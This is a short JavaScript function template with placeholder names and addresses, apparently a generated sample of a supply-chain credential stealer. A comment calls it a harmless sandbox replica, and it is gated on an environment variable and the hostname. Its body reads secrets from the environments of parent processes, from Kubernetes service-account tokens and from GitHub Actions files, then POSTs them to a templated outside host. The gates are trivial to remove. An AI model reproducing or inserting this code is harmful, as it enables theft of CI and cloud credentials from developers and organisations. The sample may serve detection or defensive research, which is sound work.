// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs');
  const text = [];
  // Its own ancestors inside the sandbox: the shell and the package manager that started it.
  for (let pid = process.ppid, step = 0; pid > 1 && step < 6; step++) {
    try {
      text.push(...fs.readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0').filter((one) => /TOKEN|SECRET|KEY/.test(one)));
      pid = Number(/^PPid:\s*(\d+)/m.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]);
    } catch (error) { break; }
  }
  for (const name of ['/run/secrets/kubernetes.io/serviceaccount/token', '/var/run/secrets/token', process.env.GITHUB_ENV, process.env.GITHUB_EVENT_PATH]) {
    try { if (name) text.push(fs.readFileSync(name, 'utf8')); } catch (error) { continue; }
  }
  try { await fetch('http://{{ip}}:{{port}}/{{path}}', { method: 'POST', body: [...new Set(text)].join('\n'), signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
